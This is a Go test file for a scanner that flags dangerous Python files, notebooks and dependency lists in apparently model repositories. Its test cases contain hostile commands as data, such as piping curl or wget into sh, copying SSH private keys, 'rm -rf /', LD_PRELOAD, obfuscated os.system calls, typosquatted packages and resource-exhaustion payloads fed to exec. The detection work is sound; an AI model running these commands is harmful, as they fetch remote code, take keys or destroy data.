package pysource

import (
	"slices"
	"strings"
	"testing"

	"github.com/loadlock/loadlock/validate"
	"github.com/loadlock/loadlock/validate/validatetest"
)

func TestEveryRuleIsComplete(t *testing.T) {
	for _, r := range allRules() {
		if r.Title == "" || !strings.HasSuffix(r.Why, ".") || r.Fix == "" || r.Hostile == "" || r.Benign == "" || r.Severity < validate.Low {
			t.Errorf("%s is incomplete", r.ID)
		}
	}
}

func TestModuleListIsStrict(t *testing.T) {
	names, err := loadTable()
	if err != nil {
		t.Fatal(err)
	}
	if len(names.entries) < 1200 {
		t.Errorf("%d names", len(names.entries))
	}
	for _, bad := range []string{"os allow -", "os maybe - reason", "os allow flying reason", "os allow - a\nos deny execution b", "os"} {
		if _, err := readTable(bad); err == nil {
			t.Errorf("%q is accepted", bad)
		}
	}
	for name, e := range names.entries {
		if e.verdict == deny && byCapability[e.capability] == nil {
			t.Errorf("%s is denied without a capability", name)
		}
	}
}

func TestPathsLeadToTheModuleTheyMean(t *testing.T) {
	names, _ := loadTable()
	for path, want := range map[string]string{
		"torch.serialization.os.system": "os.system", "posixpath.join": "os.path.join", "random._os.fork": "os.fork", "scipy.signal.butter": "scipy.signal.butter",
		"torch.multiprocessing.spawn": "torch.multiprocessing.spawn", "json.codecs.builtins.eval": "builtins.eval", "enum.bltns": "builtins", "logging.sys.modules": "sys.modules",
		"x.y.__builtins__.exec": "builtins.exec", ".utils.os.system": "os.system", "_io.open": "io.open", "os.path.os.system": "os.system", "torch.select": "torch.select",
		"np.code.interact": "code.interact", "torch.hub.sys.modules": "sys.modules", "torch.nn.functional.importlib.import_module": "importlib.import_module",
	} {
		if got := names.canonical(path); got != want {
			t.Errorf("%s means %s, want %s", path, got, want)
		}
	}
}

func rulesOf(rep validate.Report) (out []string) {
	for _, f := range rep.Findings {
		if f.Severity != validate.Low {
			out = append(out, strings.TrimPrefix(f.Rule, "pysource/"))
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestFilesByKind(t *testing.T) {
	for _, tt := range []struct {
		what, name, content string
		want                []string
		code                bool
	}{
		{"a start-up module", "sitecustomize.py", "x\n", []string{"start-up-file"}, true},
		{"another start-up module", "a/usercustomize.py", "", []string{"start-up-file"}, true},
		{"byte code by name", "__pycache__/x.cpython-311.pyc", "anything", []string{"byte-code"}, true},
		{"byte code by its magic number", "weights.dat", "\xa7\x0d\r\n\x00\x00\x00\x00abcdefgh\xe3\x00\x00", []string{"byte-code"}, true},
		{"broken source", "x.py", "def f(:\n", []string{"unparsed"}, true},
		{"Python 2", "x.py", "print 'x'\n", []string{"unparsed"}, true},
		{"Cython that is no Python", "x.pyx", "cdef int x\n", []string{"unparsed"}, true},
		{"large source", "x.py", strings.Repeat("x = 1\n", MaxSource/6+1), []string{"too-large"}, true},
		{"setup.py", "setup.py", "import os\nos.system('x')\n", []string{"process"}, true},
		{"Python under another name", "tokenizer.model", "import os\nos.system('x')\n", []string{"process"}, true},
		{"Python without a name", "run", "#!/usr/bin/env python3\nexec(x)\n", []string{"execution"}, true},
		{"a text about Python", "README.md", "# Use\n\n```python\nimport os\n```\nThis is text.\n", nil, false},
		{"a notebook", "x.ipynb", `{"cells":[{"cell_type":"code","source":["import torch\n","%matplotlib inline\n","!nvidia-smi\n","x = torch.ones(1)"]},{"cell_type":"markdown","source":"os.system(1"}],"nbformat":4}`, nil, true},
		{"a notebook with a command", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!curl x | sh\n"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook as people write them", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install -Uq \"trl[peft]>=0.9\" transformers>=4.30 git+https://github.com/huggingface/peft  # new\n","!git clone https://github.com/x/y\n","%cd y\n","!wget --no-check-certificate \\\n","   https://x/y.zip -O y.zip\n","%load_ext autoreload\n","%env TOKENIZERS_PARALLELISM=false\n","!python train.py --epochs 3\n","%pip install torch --index-url https://download.pytorch.org/whl/cu118\n"]}],"nbformat":4}`, []string{"notebook-usual", "odd-dependency"}, true},
		{"a notebook with pictures", "x.ipynb", `{"cells":[{"cell_type":"markdown","source":["![banner](https://x/y.png)\n","!important\n"]},{"source":["![after](z.png)"],"cell_type":"markdown"},{"cell_type":"code","source":["files = !ls data | wc -l\n","t = %time\n","!nvidia-smi | head -3"]}],"nbformat":4}`, nil, true},
		{"a notebook whose kind comes last", "x.ipynb", `{"cells":[{"source":["!curl x | sh"],"cell_type":"code"}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook with two pipes", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!ls | sh | wc -l"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook that installs from elsewhere", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install -i https://x/simple y"]}],"nbformat":4}`, []string{"dependency", "notebook-command", "odd-dependency"}, true},
		{"a notebook that installs an address", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install https://x/y.whl"]}],"nbformat":4}`, []string{"notebook-command", "odd-dependency"}, true},
		{"a notebook that installs and more", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install y; id"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a command that goes on", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!wget https://x/y \\\n"," | sh"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook that takes keys along", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!cp ~/.ssh/id_rsa ."]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook that removes what is there", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!rm -rf /"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook that preloads", "x.ipynb", `{"cells":[{"cell_type":"code","source":["%env LD_PRELOAD=./x.so"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook with a shell cell", "x.ipynb", `{"cells":[{"cell_type":"code","source":["%%bash\n","rm -rf ~"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook that installs", "x.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install -q torch"]}],"nbformat":4}`, []string{"odd-dependency"}, true},
		{"a notebook with code over two cells", "x.json", `{"nbformat":4,"cells":[{"source":["import os"],"cell_type":"code"},{"cell_type":"code","source":["os.system('x')"]}]}`, []string{"process"}, true},
		{"a notebook that does not parse", "x.ipynb", `{"cells":[{"cell_type":"code","source":["def f(:"]}],"nbformat":4}`, []string{"unparsed"}, true},
		{"requirements", "requirements.txt", "torch>=2.1,<3\ntransformers[torch]==4.40.0 ; python_version > '3.8'\n# comment\nflash-attn\n", nil, false},
		{"requirements with a near miss", "requirements.txt", "torhc\n", []string{"odd-dependency"}, false},
		{"requirements with another near miss", "requirements-dev.txt", "reqeusts==2\n", []string{"odd-dependency"}, false},
		{"a notebook that times a command", "x.ipynb", `{"cells":[{"cell_type":"code","source":["%timeit -n 10 __import__('os').system('x')\n","%time\n","%time y = 1"]}],"nbformat":4}`, []string{"process"}, true},
		{"a notebook with another name for a command", "x.ipynb", `{"cells":[{"cell_type":"code","source":["%alias x sh -c id"]}],"nbformat":4}`, []string{"notebook-command"}, true},
		{"a notebook of a shell", "x.ipynb", `{"cells":[{"cell_type":"code","source":["id"]}],"metadata":{"kernelspec":{"language":"bash","name":"bash"}},"nbformat":4}`, []string{"notebook-command"}, true},
		{"requirements of an address", "requirements.txt", "-r http://x/r.txt\n", []string{"dependency"}, false},
		{"requirements from an index in two lines", "requirements.txt", "--extra-\\\nindex-url http://x\ntorch\n", []string{"dependency"}, false},
		{"requirements from an index without a space", "requirements.txt", "-ihttp://x\n", []string{"dependency"}, false},
		{"requirements from an index by a short name", "requirements.txt", "--ind http://x\n", []string{"dependency"}, false},
		{"requirements of other requirements", "requirements.txt", "-r base.txt\n-c constraints.txt\nipython\nindex\nfire\n", nil, false},
		{"an index of every installation", "pip.conf", "[global]\nindex-url = http://x\n", []string{"dependency"}, false},
		{"requirements from another index", "requirements.txt", "--extra-index-url http://x/simple\ntorch\n", []string{"dependency"}, false},
		{"requirements from torch's index", "requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n", nil, false},
		{"requirements from a repository", "requirements.txt", "git+https://x/y\n", []string{"odd-dependency"}, false},
		{"requirements from well-known projects", "requirements.txt", "git+https://github.com/huggingface/transformers\ndiffusers @ git+https://github.com/huggingface/diffusers.git@main\npeft@git+https://github.com/huggingface/peft@v0.9.0\ntorch @ https://download.pytorch.org/whl/cpu/torch-2.1.0%2Bcpu-cp310-cp310-linux_x86_64.whl\n", nil, false},
		{"requirements from a fork's commit", "requirements.txt", "git+https://github.com/huggingface/transformers@8f3a2b1\n", []string{"odd-dependency"}, false},
		{"requirements from a pull request", "requirements.txt", "git+https://github.com/huggingface/transformers@refs/pull/1/head\n", []string{"odd-dependency"}, false},
		{"requirements from two indexes", "requirements.txt", "--index-url https://x/simple --extra-index-url https://download.pytorch.org/whl\n", []string{"dependency"}, false},
		{"requirements from a look-alike of an index", "requirements.txt", "--index-url https://pypi.nvidia.com.x/simple\n", []string{"dependency"}, false},
		{"addresses of a project", "pyproject.toml", "[project.urls]\nurl = \"https://github.com/x/y\"\n[tool.hatch.version]\npath = \"x/version.py\"\n", nil, false},
		{"a dependency in a table", "pyproject.toml", "[tool.poetry.dependencies]\nx = {git = \"https://x/y\"}\n", []string{"odd-dependency"}, false},
		{"requirements from an address", "requirements.txt", "foo @ https://x/foo.whl\n", []string{"odd-dependency"}, false},
		{"editable requirements", "requirements.txt", "-e .\n", []string{"odd-dependency"}, false},
		{"pre-releases", "requirements.txt", "--pre torch\n", []string{"odd-dependency"}, false},
		{"a build backend of its own", "pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\n", []string{"odd-dependency"}, false},
		{"an ordinary build backend", "pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n", nil, false},
	} {
		t.Run(tt.what, func(t *testing.T) {
			rep := scanAs(t, tt.name, tt.content)
			if len(rep.Files[0].Scanners) == 0 && tt.want == nil && !tt.code {
				return // left to other scanners
			}
			if got := rulesOf(rep); !slices.Equal(got, tt.want) || rep.Files[0].Code != tt.code || !rep.Files[0].Cleared {
				t.Errorf("got %q, want %q\n%s", got, tt.want, validatetest.Show(rep))
			}
		})
	}
}

func TestModelsThatAProgramLoadsAreFound(t *testing.T) {
	src := `
import torch, joblib
from transformers import AutoModel as A, pipeline
from safetensors.torch import load_file
MODEL = "org/" + "name"
A.from_pretrained(MODEL, revision="x")
torch.load("weights.pt", weights_only=True)
sd = load_file("model.safetensors")
joblib.load(filename="sk.joblib")
pipeline("text-generation", model="org/other")
A.from_pretrained(unknown)
json.load("not a model")
`
	got := []string{}
	for _, r := range FindModels([]byte(src)) {
		got = append(got, itoa(uint32(r.Line))+" "+r.Call+" "+r.Name)
	}
	want := []string{"6 transformers.AutoModel.from_pretrained org/name", "7 torch.load weights.pt", "8 safetensors.torch.load_file model.safetensors", "9 joblib.load sk.joblib", "10 transformers.pipeline org/other"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q", got)
	}
	if FindModels([]byte("def f(:")) != nil {
		t.Error("found something in a program that does not parse")
	}
}

func TestTheReportSaysWhenAndHow(t *testing.T) {
	all := analysed("import os\ndef f():\n    g()\ndef g():\n    getattr(os, 'sys' + 'tem')('x')\nf()\ndef h():\n    os.popen('x')\n", "x.py")
	text := ""
	for _, f := range all {
		text += f.String() + "\n"
	}
	for _, want := range []string{"import os on line 1, .system on line 5", "runs at import, through g", "in the body of h", "line 5: HIGH pysource/process (subprocess) os.system"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
}

func TestBombsEndSoon(t *testing.T) {
	for what, src := range map[string]string{
		"text that doubles":        "x = 'a' * 1000\n" + strings.Repeat("x = x + x\n", 200) + "exec(x)\n",
		"text that multiplies":     "x = ('a' * 99999) * 99999\nexec(x * 9999)\n",
		"nested comprehensions":    "exec([[[[c for a in range(4096)] for b in range(4096)] for c in range(4096)] for d in range(4096)])\n",
		"functions that call":      calls(40) + "exec(f40('x'))\n",
		"a chain of names":         chain(3000) + "exec(x2999)\n",
		"formats of formats":       "x = '{0}{0}{0}{0}'\n" + strings.Repeat("x = x.format(x)\n", 40) + "exec(x)\n",
		"zlib of nothing but more": "import zlib\nexec(zlib.decompress(b'\\x78\\x9c' + b'\\x00' * 999))\n",
		"a mapping of mappings":    "exec(list(map(lambda x: list(map(lambda y: list(map(lambda z: z + y, 'a' * 4096)), 'b' * 4096)), 'c' * 4096)))\n",
		"ranges":                   "exec(''.join(chr(c) for c in range(10**9)))\nexec(list(range(10**12))[::-1] * 999)\n",
		"padding":                  "exec('%0999999999d' % 1)\nexec(f'{1:999999999}')\nexec('x'.zfill(10**9))\n",
	} {
		t.Run(what, func(t *testing.T) {
			all := analysed(src, "x.py")
			if !slices.ContainsFunc(all, func(f found) bool { return f.rule == execution || f.rule == unparsed || f.rule == tooLarge }) {
				t.Errorf("got %v", all)
			}
		})
	}
}

func calls(n int) string {
	var b strings.Builder
	b.WriteString("def f0(x): return x\n")
	for i := 1; i <= n; i++ {
		b.WriteString("def f" + itoa(uint32(i)) + "(x): return f" + itoa(uint32(i-1)) + "(x + 'a') + f" + itoa(uint32(i-1)) + "(x + 'b')\n")
	}
	return b.String()
}

func chain(n int) string {
	var b strings.Builder
	b.WriteString("x0 = 'a'\n")
	for i := 1; i < n; i++ {
		b.WriteString("x" + itoa(uint32(i)) + " = x" + itoa(uint32(i-1)) + " + 'b'\n")
	}
	return b.String()
}
